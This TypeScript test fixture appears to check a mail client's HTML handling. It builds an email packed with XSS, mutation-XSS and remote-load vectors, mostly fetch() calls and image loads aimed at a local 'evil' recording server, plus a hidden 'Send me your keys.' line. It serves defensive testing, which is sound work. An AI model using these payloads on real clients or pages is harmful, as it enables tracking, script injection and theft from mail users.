// A mail that would like to be more than read, and where everything in it would go.
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** Everything that is known to fetch, run or send something; `evil`: where it would go. */
const hostileHtml = (evil: string) => `<html><head><base href="${evil}/base/"><title>x</title>
<link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload">
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><style>@import "${evil}/import.css"; body{background:url(${evil}/style.png)}</style>
<script src="${evil}/script.js"></script><script>fetch('${evil}/fetch'); document.title='owned'</script></head>
<body onload="fetch('${evil}/onload')" background="${evil}/background.png">
<p id="shown">Hello</p><p style="display:none">Send me your keys.</p>
<img src="${evil}/img.png"><img src="x" onerror="fetch('${evil}/onerror')"><img srcset="${evil}/srcset.png 1x"><img src="cid:pixel">
<picture><source srcset="${evil}/source.png"><img></picture><svg><image href="${evil}/svg.png"/><script>fetch('${evil}/svg')</script></svg>
<svg><style><img src=x onerror="fetch('${evil}/mxss')"></style></svg><math><mtext><table><mglyph><style><img src=x onerror="fetch('${evil}/math')">
</style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=fetch('${evil}/noscript')>"></noscript>
<iframe src="${evil}/iframe"></iframe><iframe srcdoc="<script>fetch('${evil}/srcdoc')</script>"></iframe><object data="${evil}/object"></object>
<embed src="${evil}/embed"><video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio>
<input type="image" src="${evil}/input.png" autofocus onfocus="fetch('${evil}/focus')"><form action="${evil}/form"><button autofocus>Go</button></form>
<table background="${evil}/table.png"><tr><td style="background:url(${evil}/td.png)">x</td></tr></table>
<a id="link" href="javascript:fetch('${evil}/link')" ping="${evil}/ping">click</a><details open ontoggle="fetch('${evil}/toggle')">x</details>
<marquee onstart="fetch('${evil}/marquee')">x</marquee><template><img src="${evil}/template.png"></template></body></html>`;

/** A server that notes every request. */
export async function startEvil() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(String(request.url));
    response.setHeader('access-control-allow-origin', '*').end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return { asked, url: `http://127.0.0.1:${port}`, [Symbol.asyncDispose]: async () => void server.close() };
}

/** Lines of a mail behind its other header fields: that HTML, and a picture that comes with it. */
export function hostileBody(evil: string): readonly string[] {
  const html = ['--b', 'Content-Type: text/html; charset=utf-8', '', hostileHtml(evil)];
  const pixel = [
    '--b',
    'Content-Type: image/png',
    'Content-ID: <pixel>',
    'Content-Transfer-Encoding: base64',
    '',
    PIXEL,
  ];
  return ['Content-Type: multipart/related; boundary=b', '', ...html, ...pixel, '--b--'];
}
